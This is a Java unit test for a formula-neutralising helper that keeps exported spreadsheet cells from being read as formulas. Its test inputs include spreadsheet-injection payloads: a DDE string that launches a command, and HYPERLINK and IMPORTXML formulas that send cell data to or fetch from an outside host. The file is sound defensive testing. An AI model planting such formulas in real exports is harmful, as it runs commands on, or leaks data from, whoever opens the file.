package org.astc.plenary.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class InertCellTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tx",
                "\rx",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(A1)",
                "\u22121",
                " =1+1",
                "\u00A0=1+1",
                "\u3000=1+1",
                "\uFEFF=1+1",
                "\u200B=1+1",
                "\u202E=1+1",
                "\u0000=1+1",
                "\"=1+1",
                "'=1+1",
                "\u201C=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
                "=IMPORTXML(\"http://example.org\",\"//a\")"
            })
    void s56ATextThatCouldBeginAFormulaBecomesAText(String typed) {
        assertThat(InertCell.of(typed)).startsWith("'");
        assertThat(InertCell.typed(InertCell.of(typed))).isEqualTo(typed);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"Museum;=1+1", "Museum; =1+1", "Museum\t=1+1", "Museum\n@SUM(A1)", "Museum\r\n-1", "a;\"=1"})
    void s56AFormulaInAPartThatAProgramMaySplitOffIsInertToo(String typed) {
        assertThat(InertCell.of(typed)).matches("(?s)(Museum|a)([;\t\n]|\r\n?)'.*");
        assertThat(InertCell.typed(InertCell.of(typed))).isEqualTo(typed);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Amara Okonkwo-Reyes",
                "amara+museum@example.org",
                "O\u2019Neill & Sons; Ltd.",
                "\u674E\u660E\u8F69",
                "2026-11-21T10:00:00-04:00",
                "585.00",
                "a = b"
            })
    void otherTextsStayAsTheyAre(String typed) {
        assertThat(InertCell.of(typed)).isEqualTo(typed);
    }

    @Test
    void anApostropheOfTheTextItselfComesBack() {
        assertThat(InertCell.typed(InertCell.of("'s-Hertogenbosch"))).isEqualTo("'s-Hertogenbosch");
        assertThat(InertCell.typed(InertCell.of("''=;'=\t'x"))).isEqualTo("''=;'=\t'x");
    }

    @Test
    void everyTextComesBack() {
        Random random = new Random(7);
        String signs = "=+-@\t\r\n;,'\" \uFF1D\uFEFFax";
        for (int i = 0; i < 20_000; i++) {
            StringBuilder typed = new StringBuilder();
            for (int length = random.nextInt(8); length > 0; length--) {
                typed.append(signs.charAt(random.nextInt(signs.length())));
            }

            String text = typed.toString();

            assertThat(InertCell.typed(InertCell.of(text))).isEqualTo(text);
        }
    }
}
